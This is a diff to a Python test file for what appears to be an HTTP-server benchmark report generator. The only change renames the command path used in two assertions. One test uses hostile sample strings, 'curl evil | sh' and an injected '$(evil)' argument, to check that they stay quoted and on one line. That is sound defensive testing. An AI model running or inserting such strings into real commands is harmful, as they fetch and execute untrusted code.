@@ -114,7 +114,7 @@ def test_the_table_says_who_was_at_its_limit_as_the_legend_does() -> None:
 def test_everything_to_repeat_it(pages: Callable[[str], Path]) -> None:
     text = pages("version1").read_text()
     assert "git checkout 0b0de33891494a5a45b50c49a9d82f0f89dff841" in text
-    assert "scripts/setup.sh build bench\nmake all\n.venv/bin/python -m bench sweep --serv" in text
+    assert "scripts/setup.sh build bench\nmake all\n.venv/bin/zerohttpd sweep --serv" in text
     assert "6.18.44" in text
     assert "ab -q -s 120" in text
 
@@ -153,7 +153,7 @@ def test_a_hostile_command_stays_on_its_line() -> None:
     assert comment.startswith("# epoll curl evil | sh")
     assert line.startswith("ab '")
     assert (comment + line).isprintable()
-    assert facts.command(study) == ".venv/bin/python -m bench sweep 'a b' '$(evil)'"
+    assert facts.command(study) == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"
 
 
 def sweep_facts(results: Results) -> dict[str, str]:
